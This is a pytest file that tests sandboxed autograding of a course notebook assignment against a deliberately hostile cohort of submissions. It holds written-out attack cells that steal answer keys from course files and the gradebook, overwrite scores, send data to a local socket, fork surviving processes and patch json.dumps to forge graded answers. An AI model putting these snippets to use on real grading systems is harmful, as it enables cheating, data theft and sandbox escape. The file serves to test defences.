"""A hostile cohort graded for real: through ``pmcourse grade`` and through plain nbgrader.

Every submission of ``a1_roles`` here is written the way a hostile trainee would write it:
steal the keys from the course folder or another trainee, write the gradebook, write outside
the scratch folder, reach a server on 127.0.0.1, fork a survivor, ``os._exit``, print 20 MB,
ignore interrupts and loop, allocate far past the memory limit, install input transformers
that hunt for keys, print the test cells or silence them, patch ``json`` and builtins during
the hand-over. Each must get the score honest grading requires (a steal or a transformer no
more than a blank submission); afterwards nothing outside the scratch folders has changed, no
process survives, no notebook is over 1 MB and no feedback file holds a key. An honest cohort
(extra prints, comments, helper variables and functions) must not be flagged by the audit.
"""

from __future__ import annotations

import copy
import hashlib
import html
import json
import os
import re
import shutil
import socket
import sqlite3
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from nbgrader_support import ROOT, run_nbgrader

from course_lib._pipeline.audit import run_audit
from course_lib._pipeline.demo.cohort import tampering_cells
from course_lib._pipeline.export import item_scores
from course_lib._pipeline.settings import load_settings
from course_lib._sandbox import SandboxUnavailable, check_support
from course_lib.cli import main
from course_lib.grading.items import item_spec, load_assignment_specs
from course_lib.grading.keys import read_keys
from course_lib.grading.scoring import judge


def _support_problem() -> str:
    try:
        check_support()
    except SandboxUnavailable as error:
        return str(error)
    return ""


# In CI the sandbox must work: a machine that cannot sandbox fails here instead of skipping.
pytestmark = [
    pytest.mark.nbgrader,
    pytest.mark.slow,
    pytest.mark.skipif(
        bool(_support_problem()) and not os.environ.get("CI"), reason=_support_problem()
    ),
]

ASSIGNMENT = "a1_roles"
SPEC = load_assignment_specs()[ASSIGNMENT]
ROLES, KPIS = item_spec(ASSIGNMENT, "roles"), item_spec(ASSIGNMENT, "kpis")
KEYS = read_keys(ROOT / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
MARKER = "pmcourse-hostile-survivor-7d1c"
OUTSIDE = Path("/tmp") / f"pmcourse-hostile-{os.getpid()}"


def _dict_source(variable: str, answer: dict[str, Any]) -> str:
    body = "".join(f"    {json.dumps(k)}: {json.dumps(v)},\n" for k, v in answer.items())
    return f"{variable} = {{\n{body}}}"


def _correct() -> dict[str, str]:
    return {
        ROLES.answer_grade_id: _dict_source(ROLES.answer_variable, KEYS[ROLES.grade_id].key),
        KPIS.answer_grade_id: _dict_source(KPIS.answer_variable, KEYS[KPIS.grade_id].key),
    }


STEAL = """
import json, pathlib, sqlite3
stolen = {{}}
for path in ("{course}/solutions/a1_roles/a1_roles.ipynb",
             "{course}/autograded/solver/a1_roles/a1_roles.ipynb",
             "{course}/submitted/solver/a1_roles/a1_roles.ipynb",
             "{course}/source/a1_roles/a1_roles.ipynb"):
    try:
        stolen[path] = pathlib.Path(path).read_text()
    except OSError as error:
        print("denied:", type(error).__name__)
try:
    rows = sqlite3.connect("file:{course}/gradebook.db?mode=ro", uri=True).execute(
        "select source from source_cell").fetchall()
    stolen["gradebook"] = rows
except Exception as error:
    print("denied:", type(error).__name__)
for text in stolen.values():
    for cell in json.loads(text).get("cells", []) if isinstance(text, str) else []:
        source = "".join(cell["source"])
        if "roles_answer = {{" in source and "None" not in source:
            exec(source.split("### BEGIN SOLUTION")[-1].split("### END SOLUTION")[0])
        if "_KEY = {{" in source:
            exec(source.split("### BEGIN HIDDEN TESTS")[1].split("### END HIDDEN TESTS")[0])
            roles_answer = _KEY
"""

WRITE_OUTSIDE = """
import os, pathlib, sqlite3
for path in ("{course}/pwned.txt", "{course}/solutions/pwned.txt", "{home}/pwned.txt",
             "{outside}", "{course}/submitted/solver/a1_roles/a1_roles.ipynb"):
    try:
        pathlib.Path(path).write_text("pwned")
    except OSError as error:
        print("denied:", type(error).__name__)
try:
    db = sqlite3.connect("{course}/gradebook.db")
    db.execute("create table pwned (x)")
    db.execute("update grade set auto_score = 99")
    db.commit()
except Exception as error:
    print("denied:", type(error).__name__)
"""

NETWORK = """
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen answers")
except OSError as error:
    print("denied:", type(error).__name__)
"""

SURVIVOR = """
import os, subprocess, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c",
                 "import time\\nwhile True: time.sleep(1)  # {marker}"])
    os._exit(0)
os.wait()
"""

HOSTILE_TRANSFORMERS = {
    "hunt_keys": """
def _hunt(lines):
    text = "".join(lines)
    if "_KEY" in text or "hidden" in text.lower():
        get_ipython().user_ns["found_key"] = text
    return lines
get_ipython().input_transformers_post.append(_hunt)
""",
    "print_tests": """
def _show(lines):
    print("CELL SOURCE:", "".join(lines))
    return lines
get_ipython().input_transformers_post.append(_show)
""",
    "silence_tests": """
def _silence(lines):
    body = ["    " + line for line in lines]
    return ["try:\\n", *body, "\\nexcept BaseException:\\n    pass\\n"]
get_ipython().input_transformers_post.append(_silence)
""",
}

PATCHED_HANDOVER = """
import json
_dumps = json.dumps
FORGED = {{"grade_id": "{grade_id}", "variable": "roles_answer", "defined": True, "type": "dict",
          "shape": "mapping", "data": {forged}}}


def _forging(obj, *args, **kwargs):
    # Rewrites the hand-over on its way out of the kernel (jupyter_client packs each
    # message part, the content included, with json.dumps).
    try:
        data = obj["data"]
        if data["application/vnd.pmcourse.answer+json"]["grade_id"] == "{grade_id}":
            data["application/vnd.pmcourse.answer+json"] = FORGED
    except Exception:
        pass
    return _dumps(obj, *args, **kwargs)


json.dumps = _forging
"""


def _kinds(course: Path, port: int) -> dict[str, tuple[dict[str, str], list[tuple[str, str]]]]:
    """Student -> (answer sources by answer grade id, extra cells as (after grade id, code))."""
    correct = _correct()
    values = {"course": course, "home": Path.home(), "outside": OUTSIDE, "port": port}
    forged = dict.fromkeys(ROLES.ids, "product_management")
    kinds: dict[str, tuple[dict[str, str], list[tuple[str, str]]]] = {
        "solver": (correct, []),
        "steal_keys": ({}, [("", STEAL.format(**values))]),
        "write_outside": (correct, [("", WRITE_OUTSIDE.format(**values))]),
        "network": (correct, [("", NETWORK.format(**values))]),
        "survivor": (correct, [("", SURVIVOR.format(marker=MARKER))]),
        "os_exit": (correct, [(ROLES.grade_id, "import os\nos._exit(0)")]),
        "print_20mb": (correct, [("", 'print("x" * 20_000_000)')]),
        "sigint_loop": (
            correct,
            [
                (
                    ROLES.grade_id,
                    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                    "while True:\n    pass",
                )
            ],
        ),
        "memory": (
            correct,
            [
                (
                    "",
                    "try:\n    hog = bytearray(64 * 1024**3)\nexcept MemoryError:\n"
                    "    print('no memory')",
                )
            ],
        ),
        "patched_handover": (
            {},
            [("", PATCHED_HANDOVER.format(grade_id=ROLES.grade_id, forged=json.dumps(forged)))],
        ),
        "builtins": ({}, [("", tampering_cells()["cheat_builtins"])]),
    }
    for name, code in HOSTILE_TRANSFORMERS.items():
        kinds[f"transformer_{name}"] = ({}, [("", code)])
    return kinds


def expected_score(student: str) -> float:
    """The score honest grading requires for each hostile kind."""
    if student in ("solver", "write_outside", "network", "survivor", "print_20mb", "memory"):
        return SPEC.autograded_points  # the answers are right; the hostility gets nothing
    if student in ("os_exit", "sigint_loop"):
        return ROLES.points  # the kernel stops after the first test: the second gets 0
    if student == "patched_handover":  # its own (forged) answer, scored against the key
        forged = dict.fromkeys(ROLES.ids, "product_management")
        return ROLES.points * judge(ROLES, forged, KEYS[ROLES.grade_id].key).fraction
    return 0.0  # steals, transformers and patched builtins over blank answers: as blank


HONEST = {
    "extra_print": "print('checked my answer')\n{answer}\nprint(len({variable}), 'labels')",
    "comments": "# my reasoning: listen to the market -> PM\n{answer}  # done",
    "helper_variable": "pm = 'product_management'\n{answer}\nmine = dict({variable})",
    "helper_function": "def tidy(sort):\n    return {{k: v.strip() for k, v in sort.items()}}\n\n"
    "{answer}\n{variable} = tidy({variable})",
}


def _notebook(release: dict[str, Any], answers: dict[str, str], extra: list[tuple[str, str]]):
    notebook = copy.deepcopy(release)
    cells = notebook["cells"]
    for cell in cells:
        grade_id = cell["metadata"].get("nbgrader", {}).get("grade_id")
        if grade_id in answers:
            cell["source"] = answers[grade_id]
    for after, code in extra:
        new = {"cell_type": "code", "execution_count": None, "id": f"hostile-{len(cells)}",
               "metadata": {}, "outputs": [], "source": code}  # fmt: skip
        index = 1  # after the setup cell, before the first answer
        if after:
            index = 1 + next(
                i for i, c in enumerate(cells)
                if c["metadata"].get("nbgrader", {}).get("grade_id") == after
            )  # fmt: skip
        cells.insert(index, new)
    return notebook


def _snapshot(root: Path) -> dict[str, str]:
    """Hash of every file under ``root`` that grading must not touch."""
    kept = ("solutions", "source", "submitted", "exercises", "nbgrader_config.py")
    found = {}
    for path in sorted(root.rglob("*")):
        relative = path.relative_to(root)
        if path.is_file() and relative.parts[0] in kept:
            found[str(relative)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def _survivors() -> list[int]:
    pids = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if MARKER.encode() in (entry / "cmdline").read_bytes():
                    pids.append(int(entry.name))
            except OSError:
                continue
    return pids


class _Listener:
    """A TCP server on 127.0.0.1 that records every connection it accepts."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.accepted = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            self.accepted += 1
            connection.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.server.close()


@pytest.fixture(scope="module")
def listener() -> Iterator[_Listener]:
    server = _Listener()
    yield server
    server.close()


def _build(course: Path, port: int) -> None:
    course.mkdir(parents=True)
    shutil.copy2(ROOT / "nbgrader_config.py", course / "nbgrader_config.py")
    shutil.copytree(ROOT / "solutions" / ASSIGNMENT, course / "solutions" / ASSIGNMENT)
    assert main(["release", ASSIGNMENT, "--course-dir", str(course)]) == 0
    release_dir = course / "exercises" / ASSIGNMENT
    release = json.loads((release_dir / f"{ASSIGNMENT}.ipynb").read_text(encoding="utf-8"))
    students = dict(_kinds(course, port))
    correct = _correct()
    for name, template in HONEST.items():
        answers = {
            grade_id: template.format(answer=source, variable=variable)
            for (grade_id, source), variable in zip(
                correct.items(), (ROLES.answer_variable, KPIS.answer_variable), strict=True
            )
        }
        students[f"honest_{name}"] = (answers, [])
    for student, (answers, extra) in students.items():
        folder = course / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        for data_file in release_dir.iterdir():
            if data_file.suffix != ".ipynb":
                shutil.copy(data_file, folder / data_file.name)
        notebook = _notebook(release, answers, extra)
        (folder / f"{ASSIGNMENT}.ipynb").write_text(json.dumps(notebook, indent=1))


@pytest.fixture(scope="module", params=["pmcourse", "nbgrader"])
def graded(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, listener: _Listener
) -> Iterator[tuple[str, Path, dict[str, str]]]:
    """The hostile cohort graded by ``pmcourse grade`` or by plain ``nbgrader autograde``,
    with a snapshot of what grading must not change taken before."""
    course = tmp_path_factory.mktemp(f"hostile-{request.param}") / "course"
    _build(course, listener.port)
    before = _snapshot(course)
    before_home = sorted(p.name for p in Path.home().iterdir())
    if request.param == "pmcourse":
        main(["grade", ASSIGNMENT, "--course-dir", str(course), "--no-progress"])
    else:
        run_nbgrader(course, "autograde", ASSIGNMENT)
        run_nbgrader(course, "generate_feedback", ASSIGNMENT)
    time.sleep(0.5)  # let a killed tree's last process be reaped
    yield request.param, course, before
    assert sorted(p.name for p in Path.home().iterdir()) == before_home


def test_every_hostile_kind_gets_the_score_honest_grading_requires(
    graded: tuple[str, Path, dict[str, str]],
) -> None:
    route, course, _ = graded
    table = item_scores(load_settings(course), [ASSIGNMENT])
    totals = table.groupby("student")["score"].sum().to_dict()
    students = {p.name for p in (course / "submitted").iterdir()}
    assert set(totals) == students, (route, students - set(totals))
    for student in sorted(students):
        expected = SPEC.autograded_points if student.startswith("honest_") else None
        expected = expected_score(student) if expected is None else expected
        assert totals[student] == pytest.approx(expected, abs=1e-6), (route, student)


def test_nothing_outside_the_scratch_folders_changed_and_nothing_survives(
    graded: tuple[str, Path, dict[str, str]], listener: _Listener
) -> None:
    route, course, before = graded
    assert _snapshot(course) == before, route
    assert not (course / "pwned.txt").exists() and not OUTSIDE.exists()
    assert not (Path.home() / "pwned.txt").exists()
    tables = sqlite3.connect(course / "gradebook.db").execute(
        "select name from sqlite_master where type = 'table'"
    )
    assert "pwned" not in {row[0] for row in tables}
    assert listener.accepted == 0, "a kernel reached the test's server"
    assert _survivors() == [], "a process forked by a trainee survived grading"


def test_no_notebook_is_over_1_mb_and_no_feedback_holds_a_key(
    graded: tuple[str, Path, dict[str, str]],
) -> None:
    route, course, _ = graded
    notebooks = list((course / "autograded").rglob("*.ipynb"))
    assert len(notebooks) == len(list((course / "submitted").iterdir()))
    for path in notebooks:
        assert path.stat().st_size < 1_000_000, (route, path, path.stat().st_size)
    printed = course / "autograded" / "print_20mb" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    assert "[output cut:" in printed.read_text(encoding="utf-8")
    feedback = list((course / "feedback").rglob("*.html"))
    assert len(feedback) == len(notebooks)
    for path in [*feedback, *notebooks]:
        student = path.relative_to(course).parts[1]
        text = path.read_text(encoding="utf-8")
        if path.suffix == ".html":
            text = html.unescape(re.sub(r"<[^>]+>", "", text))
        found = _leaks(text, answered=student in ANSWERED or student.startswith("honest_"))
        assert not found, (route, path, found[:3])


ANSWERED = {"solver", "write_outside", "network", "survivor", "os_exit", "print_20mb",
            "sigint_loop", "memory", "patched_handover"}  # fmt: skip


def _leaks(text: str, *, answered: bool) -> list[str]:
    """Key material in ``text``: reasons behind the keys (never in any submission) and, where
    the trainee did not answer, any (task, expected label) pair of the keys."""
    found = [
        reason[:50]
        for key in KEYS.values()
        for reason in key.explanations.values()
        if reason[:50] in text
    ]
    if not answered:
        flat = " ".join(text.split())
        for key in KEYS.values():
            for task, label in key.key.items():
                for form in (
                    f'"{task}": "{label}"',
                    f"'{task}': '{label}'",
                    f'\\"{task}\\": \\"{label}\\"',
                ):
                    if form in flat:
                        found.append(form)
    return found


def test_the_audit_flags_tampering_and_no_honest_submission(
    graded: tuple[str, Path, dict[str, str]],
) -> None:
    route, course, _ = graded
    result = run_audit(load_settings(course), [ASSIGNMENT], progress=False)
    flagged = {finding.student: finding.check for finding in result.findings}
    honest = [student for student in flagged if student.startswith("honest_")]
    print(f"{route}: audit false positives on the honest cohort: {len(honest)} of {len(HONEST)}")
    assert honest == []
    assert flagged.get("transformer_silence_tests") is None  # it still handed over (blank)
    assert {"os_exit", "sigint_loop"} <= set(flagged), flagged
    assert all(flagged[s] == "kernel_stopped" for s in ("os_exit", "sigint_loop")), flagged
